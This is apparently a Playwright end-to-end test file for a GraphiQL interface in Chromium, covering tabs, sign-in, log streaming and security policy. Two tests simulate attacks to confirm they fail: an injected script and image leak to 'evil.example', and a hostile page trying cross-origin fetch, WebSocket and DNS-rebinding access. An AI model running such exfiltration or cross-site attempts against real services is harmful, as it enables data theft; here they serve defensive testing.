import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { insertChunks } from '../../db/logs/append.ts';
import { encodeChunks } from '../../domain/logs/chunk.ts';
import { query, type TestApi, testApi } from '../api/support.ts';
import { numberedChunk } from '../support/lines.ts';
import { findChromium } from './chromium.ts';

const executablePath = findChromium('that GraphiQL works in a browser under its policy');

/** The foreign name resolves to this machine, as an attacker's DNS could make it. */
const ARGUMENTS = ['--no-sandbox', '--disable-dev-shm-usage', '--host-resolver-rules=MAP evil.example 127.0.0.1'];

const SLOWLY = { timeout: 20_000 };

describe.skipIf(executablePath === undefined)('GraphiQL in Chromium', () => {
  let api: TestApi;
  let browser: Browser;
  beforeAll(async () => {
    api = await testApi();
    browser = await chromium.launch({ executablePath, args: ARGUMENTS });
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await api?.close();
  });

  /** Opens the page and collects the complaints of the browser. */
  async function open(): Promise<{ page: Page; complaints: string[] }> {
    const page = await browser.newPage();
    const complaints: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error' || message.text().includes('Content Security Policy'))
        complaints.push(message.text());
    });
    page.on('pageerror', (error) => complaints.push(String(error)));
    await page.goto(api.url);
    await page.locator('.graphiql-query-editor .CodeMirror').waitFor();
    return { page, complaints };
  }

  const run = (page: Page) => page.getByRole('button', { name: /Execute query/ }).click();
  const shown = (page: Page) => page.locator('.result-window').textContent();

  test('runs an operation and a subscription without a violation of its policy', async () => {
    const { page, complaints } = await open();
    await run(page);
    await expect.poll(() => shown(page), SLOWLY).toContain('"user"');
    const subscription = 'subscription Followed { workflowUpdated { name } }';
    await page.getByRole('button', { name: /New tab/ }).click();
    await page.locator('.graphiql-query-editor .CodeMirror').click();
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText(subscription);
    // The tab title shows that GraphiQL has parsed the text.
    await page.locator('.graphiql-tab-button', { hasText: 'Followed' }).waitFor();
    await run(page);
    await page.getByRole('button', { name: /Stop query/ }).waitFor();
    const cookies = await page.context().cookies();
    const headers = { cookie: cookies.map(({ name, value }) => `${name}=${value}`).join('; ') };
    const change = `mutation ($name: String!) { createWorkflow(input: { name: $name, payload: { heartbeat: {} }, interval: 1,
      maxConsecutiveJobFailuresAllowed: 1 }) { workflow { id } } }`;
    await expect
      .poll(async () => {
        await query(api, change, { headers, variables: { name: 'followed' } });
        return shown(page);
      }, SLOWLY)
      .toContain('followed');

    await page.getByRole('button', { name: /Open settings dialog/ }).click();
    await page.getByRole('dialog').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: /Show Documentation Explorer/ }).click();
    await expect.poll(() => page.locator('.graphiql-doc-explorer').textContent(), SLOWLY).toContain('Mutation');
    expect(complaints).toEqual([]);
    await page.close();
  }, 60_000);

  const openTab = (page: Page, name: string) =>
    page.locator('.graphiql-tab-button').getByText(name, { exact: true }).click();
  const variables = (page: Page) => page.evaluate(editorValue, { of: '.graphiql-editor-tool .CodeMirror' });
  const idIn = (text: string | null) => /"id":\s*"([^"]+)"/.exec(text ?? '')?.[1] ?? 'no id';

  test('takes a click on a tab at once, also one with a movement, and leaves tabs where they are', async () => {
    const { page } = await open();
    const titles = () => page.locator('.graphiql-tab-button').allTextContents();
    const before = await titles();
    for (const name of ['Run', 'SignUp', 'Overview']) {
      const tab = page.locator('.graphiql-tab-button').getByText(name, { exact: true });
      await tab.scrollIntoViewIfNeeded(); // they are more than the window is wide
      const box = (await tab.boundingBox()) ?? { x: 0, y: 0, width: 0, height: 0 };
      await page.mouse.move(box.x + 5, box.y + 5);
      await page.mouse.down();
      // Not farther: the pointer uncovers a button at the right that closes the tab.
      await page.mouse.move(box.x + 25, box.y + 8, { steps: 5 });
      await page.mouse.up();
      const active = page.locator('.graphiql-tab-active .graphiql-tab-button');
      await expect.poll(() => active.textContent(), SLOWLY).toBe(name);
    }
    expect(await titles()).toEqual(before);
    expect(await page.locator('.graphiql-tab[style*="transform"]').count()).toBe(0);
    await page.close();
  }, 60_000);

  test('names the tab to sign in with, which who comes back has too', async () => {
    const { page } = await open();
    for (const name of ['CreateHeartbeat', 'Overview', 'Run', 'Follow']) {
      await openTab(page, name);
      await run(page);
      await expect.poll(() => shown(page), SLOWLY).toContain('Run the tab SignIn, or SignUp');
    }
    await page.evaluate(() => {
      const key = 'graphiql:tabState';
      const state: { tabs: { title: string }[] } = JSON.parse(localStorage.getItem(key) ?? '{}');
      const tabs = state.tabs.filter(({ title }) => title !== 'SignIn');
      localStorage.setItem(key, JSON.stringify({ activeTabIndex: 0, tabs }));
    });
    await page.reload();
    await openTab(page, 'SignIn');
    await run(page);
    await expect.poll(() => shown(page), SLOWLY).toMatch(/"signIn"|No account has this email/);
    await page.close();
  }, 60_000);

  test('fills the ids of what was made into other tabs, and adds up the lines of a log', async () => {
    const { page, complaints } = await open();
    const email = `ann-${Date.now()}@example.com`;
    await query(api, 'mutation ($input: SignUpInput!) { signUp(input: $input) { user { id } } }', {
      variables: { input: { email, password: 'correct horse battery' } },
    });
    await openTab(page, 'SignIn');
    await page.evaluate(editorValue, {
      of: '.graphiql-query-editor .CodeMirror',
      replace: 'ann@example.com',
      by: email,
    });
    await run(page);
    await expect.poll(() => shown(page), SLOWLY).toContain(email);
    await openTab(page, 'Run');
    await run(page);
    await expect.poll(() => shown(page), SLOWLY).toContain('run the tab CreateHeartbeat first');

    for (let round = 0; round < 2; round += 1) {
      await openTab(page, 'CreateHeartbeat');
      await run(page);
      await expect.poll(() => shown(page), SLOWLY).toContain('"nextRunAt"');
      const workflowId = idIn(await shown(page));
      await openTab(page, 'Run');
      await expect.poll(() => variables(page), SLOWLY).toContain(workflowId);
      await run(page);
      await expect.poll(() => shown(page), SLOWLY).toContain('"status"');
      const jobId = idIn(await shown(page));
      await openTab(page, 'Follow');
      await expect.poll(() => variables(page), SLOWLY).toContain(jobId);
      await run(page);
      await page.getByRole('button', { name: /Stop query/ }).waitFor();
      for (const last of [2, 4, 6]) {
        const chunk = await numberedChunk(jobId, last - 1, last);
        await insertChunks(api.db, [chunk]);
        await api.bus.publish('job_logs', [{ key: jobId, value: encodeChunks([chunk]) }]);
        await expect.poll(() => shown(page), SLOWLY).toContain(`line ${last} `);
      }
      const result = await shown(page);
      for (const line of [1, 2, 3, 4, 5, 6]) expect(result).toContain(`line ${line} `);
      expect(result).toMatch(/"firstNumber":\s*1,\s*"lastNumber":\s*6/);
      await page.getByRole('button', { name: /Stop query/ }).click();
    }
    expect(complaints).toEqual([]);
    await page.close();
  }, 120_000);

  test('runs no injected script, and loads nothing from other origins', async () => {
    const { page, complaints } = await open();
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.injected = true';
      document.body.append(script);
      const image = new Image();
      image.src = 'https://evil.example/?leak';
      await new Promise((resolve) => image.addEventListener('error', resolve, { once: true }));
      return 'injected' in globalThis;
    });
    expect(ran).toBe(false);
    expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBe(2);
    await page.close();
  }, 60_000);

  test('a page of another site cannot use it', async () => {
    const evil = createServer((_, response) =>
      response.setHeader('content-type', 'text/html').end(`<iframe src="${api.url}"></iframe>`),
    ).listen(0, '127.0.0.1');
    await once(evil, 'listening');
    const { port } = evil.address() as AddressInfo;
    const page = await browser.newPage();
    await page.goto(`http://evil.example:${port}`);
    const outcomes = await page.evaluate(async (url) => {
      const fetched = (init: RequestInit) =>
        fetch(url, { method: 'POST', body: '{"query":"{ viewer { id } }"}', ...init }).then(
          (response) => response.type,
          () => 'failed',
        );
      return {
        plain: await fetched({}),
        preflighted: await fetched({ headers: { 'content-type': 'application/json' } }),
        socket: await new Promise((resolve) => {
          const socket = new WebSocket(url.replace('http', 'ws'), 'graphql-transport-ws');
          socket.addEventListener('open', () => resolve('open'));
          socket.addEventListener('error', () => resolve('failed'));
        }),
      };
    }, api.url);
    expect(outcomes).toEqual({ plain: 'failed', preflighted: 'failed', socket: 'failed' });
    expect(page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    evil.close();

    const rebound = await page.goto(api.url.replace('127.0.0.1', 'evil.example'));
    expect([rebound?.status(), await rebound?.text()]).toEqual([421, expect.stringContaining('PUBLIC_URL')]);
    await page.close();
  }, 60_000);
});

/** Runs in the page: the text of an editor, in which it replaces something first. */
function editorValue({ of, replace = '', by = '' }: { of: string; replace?: string; by?: string }): string {
  const editor: { getValue(): string; setValue(text: string): void } = Reflect.get(
    document.querySelector(of) ?? document,
    'CodeMirror',
  );
  if (replace !== '') editor.setValue(editor.getValue().replace(replace, by));
  return editor.getValue();
}
